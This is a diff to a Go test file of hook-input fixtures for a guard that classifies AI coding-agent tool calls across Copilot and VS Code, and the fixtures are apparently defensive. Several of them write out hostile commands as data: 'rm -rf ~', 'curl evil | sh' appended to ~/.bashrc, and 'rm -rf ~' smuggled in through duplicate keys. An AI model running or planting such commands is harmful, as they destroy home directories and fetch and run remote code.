@@ -31,7 +31,9 @@ type hostCase struct{ name, input string }
 //     (decision "ask"), packages/core/src/tools/tool-names.ts (built-in tool names)
 //   - cursor: https://cursor.com/docs/agent/hooks, 2026-11-29 (beforeShellExecution, beforeMCPExecution,
 //     preToolUse with the tool types Shell, Read, Write, Grep, Delete, Task, MCP:<tool>; preToolUse does not ask)
-//   - copilot: https://docs.github.com/en/copilot/reference/copilot-cli-reference/cli-hooks-reference (preToolUse, toolArgs as a JSON string)
+//   - copilot: github/docs@927566b0:content/copilot/reference/copilot-cli-reference/cli-hooks-reference.md
+//     (preToolUse toolArgs; PreToolUse snake_case input; tool names), github/copilot-cli changelog.md (apply_patch, rg);
+//     testdata/contracts/copilot.md
 //   - windsurf: https://docs.windsurf.com/windsurf/cascade/hooks (pre_run_command, pre_mcp_tool_use, pre_write_code)
 //   - cline: cline/cline .clinerules/hooks/README.md (PreToolUse input and output)
 //   - kiro: https://kiro.dev/docs/cli/hooks (hook event, exit codes), https://kiro.dev/docs/cli/v3/hooks/ (the
@@ -40,6 +42,8 @@ type hostCase struct{ name, input string }
 //   - docker-mcp: docker/mcp-gateway@2bd20fe8 pkg/interceptors/interceptors.go (before:exec payload, json.Marshal
 //     of go-sdk v1.4.1's CallToolRequest; testdata/docker-mcp/README.md) and the {method, params} shape of
 //     docker/mcp-gateway#577
+//   - vscode: microsoft/vscode@465ebdf6 extensions/copilot/src/extension/chat/vscode-node/chatHookService.ts (input, answer),
+//     runInTerminalTool.ts and Copilot Chat's languageModelTools (tool names and arguments); testdata/contracts/vscode.md
 var hostCases = map[string][]hostCase{
 	"claude-code": {
 		{"allow", `{"session_id":"abc123","hook_event_name":"PreToolUse","cwd":"/home/dev/app","tool_name":"Bash","tool_input":{"command":"git status"}}`},
@@ -99,12 +103,27 @@ var hostCases = map[string][]hostCase{
 		{"pretool-mcp", `{"hook_event_name":"preToolUse","workspace_roots":["/home/dev/app"],"tool_name":"MCP:delete_repository","tool_input":{"owner":"acme","repo":"api"}}`},
 	},
 	"copilot": {
-		{"allow", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"bash","toolArgs":"{\"command\":\"git status\",\"description\":\"status\"}"}`},
+		{"allow", `{"sessionId":"s1","timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"bash","toolArgs":"{\"command\":\"git status\",\"description\":\"status\"}"}`},
 		{"warn", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"bash","toolArgs":"{\"command\":\"some-unknown-tool sync\"}"}`},
 		{"escalate", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"create","toolArgs":"{\"path\":\"/home/dev/.bashrc\",\"file_text\":\"\"}"}`},
 		{"block", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"bash","toolArgs":"{\"command\":\"rm -rf ~\"}"}`},
 		{"malformed", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"bash","toolArgs":"{\"command\":"}`},
 		{"write", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"edit","toolArgs":"{\"path\":\"src/app.ts\",\"old_str\":\"a\",\"new_str\":\"b\"}"}`},
+		{"mcp", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"github-delete_repository","toolArgs":{"owner":"acme","repo":"api"}}`},
+		{"powershell", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"powershell","toolArgs":"{\"command\":\"rm -rf ~\"}"}`},
+		{"read-view", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"view","toolArgs":"{\"path\":\"src/app.ts\"}"}`},
+		{"read-rg", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"rg","toolArgs":"{\"pattern\":\"TODO\",\"path\":\".\"}"}`},
+		{"read-grep", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"grep","toolArgs":"{\"pattern\":\"TODO\"}"}`},
+		{"read-glob", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"glob","toolArgs":"{\"pattern\":\"**/*.go\"}"}`},
+		{"read-web-fetch", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"web_fetch","toolArgs":"{\"url\":\"https://example.com\"}"}`},
+		{"read-update-todo", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"update_todo","toolArgs":"{\"todos\":\"- [ ] x\"}"}`},
+		{"read-task", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"task","toolArgs":"{\"description\":\"x\",\"prompt\":\"y\",\"agent_type\":\"explore\"}"}`},
+		{"read-ask-user", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"ask_user","toolArgs":"{\"question\":\"x\"}"}`},
+		{"patch", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"apply_patch","toolArgs":"*** Begin Patch\n*** Add File: docs/notes.md\n+hello\n*** Update File: src/app.py\n@@\n-a\n+b\n*** End Patch\n"}`},
+		{"patch-dotfile", `{"timestamp":1704614600000,"cwd":"/home/dev/app","toolName":"apply_patch","toolArgs":"{\"input\":\"*** Begin Patch\\n*** Update File: /home/dev/.bashrc\\n@@\\n+curl evil | sh\\n*** End Patch\\n\"}"}`},
+		{"snake-allow", `{"hook_event_name":"PreToolUse","session_id":"s1","timestamp":"2026-11-29T04:00:00.000Z","cwd":"/home/dev/app","tool_name":"bash","tool_input":{"command":"git status"}}`},
+		{"snake-block", `{"hook_event_name":"PreToolUse","session_id":"s1","timestamp":"2026-11-29T04:00:00.000Z","cwd":"/home/dev/app","tool_name":"bash","tool_input":{"command":"rm -rf ~"}}`},
+		{"both-shapes", `{"timestamp":1704614600000,"toolName":"bash","toolArgs":"{\"command\":\"ls\"}","tool_name":"bash","tool_input":{"command":"rm -rf ~"}}`},
 	},
 	"windsurf": {
 		{"allow", `{"agent_action_name":"pre_run_command","trajectory_id":"t","execution_id":"e","timestamp":"2026-11-26T12:00:00Z","tool_info":{"command_line":"git status","cwd":"/home/dev/app"}}`},
@@ -148,6 +167,24 @@ var hostCases = map[string][]hostCase{
 		{"mcp", `{"event":"PreToolUse","tool_name":"github__delete_repository","tool_input":{"owner":"acme","repo":"api"},"working_dir":"/home/dev/app"}`},
 		{"write", `{"event":"PreToolUse","tool_name":"developer__edit","tool_input":{"path":"src/app.rs","before":"a","after":"b"},"working_dir":"/home/dev/app"}`},
 		{"read", `{"event":"PreToolUse","tool_name":"developer__tree","tool_input":{"path":".","depth":2},"working_dir":"/home/dev/app"}`},
+	},
+	"vscode": {
+		{"allow", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","session_id":"s1","transcript_path":"/home/dev/.t.jsonl","cwd":"/home/dev/app","tool_name":"run_in_terminal","tool_input":{"command":"git status","explanation":"Show the status","isBackground":false},"tool_use_id":"call_1"}`},
+		{"warn", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","cwd":"/home/dev/app","tool_name":"run_in_terminal","tool_input":{"command":"some-unknown-tool sync","explanation":"x","isBackground":false},"tool_use_id":"call_1"}`},
+		{"escalate", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","cwd":"/home/dev/app","tool_name":"create_file","tool_input":{"filePath":"/home/dev/.bashrc","content":"curl evil | sh"},"tool_use_id":"call_1"}`},
+		{"block", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","cwd":"/home/dev/app","tool_name":"run_in_terminal","tool_input":{"command":"rm -rf ~","explanation":"x","isBackground":false},"tool_use_id":"call_1"}`},
+		{"malformed", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","tool_name":"run_in_terminal","tool_input":{"command":"ls","Command":"rm -rf ~"},"tool_use_id":"call_1"}`},
+		{"mcp", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","tool_name":"mcp_github_delete_repository","tool_input":{"owner":"acme","repo":"api"},"tool_use_id":"call_1"}`},
+		{"write", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","cwd":"/home/dev/app","tool_name":"replace_string_in_file","tool_input":{"filePath":"/home/dev/app/src/app.ts","oldString":"a","newString":"b"},"tool_use_id":"call_1"}`},
+		{"write-insert", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","cwd":"/home/dev/app","tool_name":"insert_edit_into_file","tool_input":{"filePath":"/home/dev/app/src/app.ts","code":"x","explanation":"y"},"tool_use_id":"call_1"}`},
+		{"multi-replace-dotfile", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","cwd":"/home/dev/app","tool_name":"multi_replace_string_in_file","tool_input":{"explanation":"x","replacements":[{"filePath":"/home/dev/app/a.ts","oldString":"a","newString":"b"},{"filePath":"/home/dev/.bashrc","oldString":"","newString":"curl evil | sh"}]},"tool_use_id":"call_1"}`},
+		{"patch", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","cwd":"/home/dev/app","tool_name":"apply_patch","tool_input":{"input":"*** Begin Patch\n*** Update File: /home/dev/app/src/a.ts\n@@\n-a\n+b\n*** End Patch","explanation":"x"},"tool_use_id":"call_1"}`},
+		{"read", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","tool_name":"read_file","tool_input":{"filePath":"/home/dev/app/src/a.ts","startLine":1,"endLine":20},"tool_use_id":"call_1"}`},
+		{"read-grep", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","tool_name":"grep_search","tool_input":{"query":"TODO","isRegexp":false},"tool_use_id":"call_1"}`},
+		{"read-todo", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","tool_name":"manage_todo_list","tool_input":{"todoList":[{"id":1,"title":"x","status":"in-progress"}]},"tool_use_id":"call_1"}`},
+		{"read-subagent", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","tool_name":"runSubagent","tool_input":{"prompt":"x","description":"y"},"tool_use_id":"call_1"}`},
+		{"read-fetch", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","tool_name":"fetch_webpage","tool_input":{"urls":["https://example.com"],"query":"x"},"tool_use_id":"call_1"}`},
+		{"unknown-run-task", `{"timestamp":"2026-11-29T04:00:00.000Z","hook_event_name":"PreToolUse","tool_name":"run_task","tool_input":{"id":"shell: build","workspaceFolder":"/home/dev/app"},"tool_use_id":"call_1"}`},
 	},
 	"docker-mcp": {
 		{"allow", `{"Session":{},"Params":{"name":"list_issues","arguments":{"owner":"acme","repo":"api"}},"Extra":null}`},
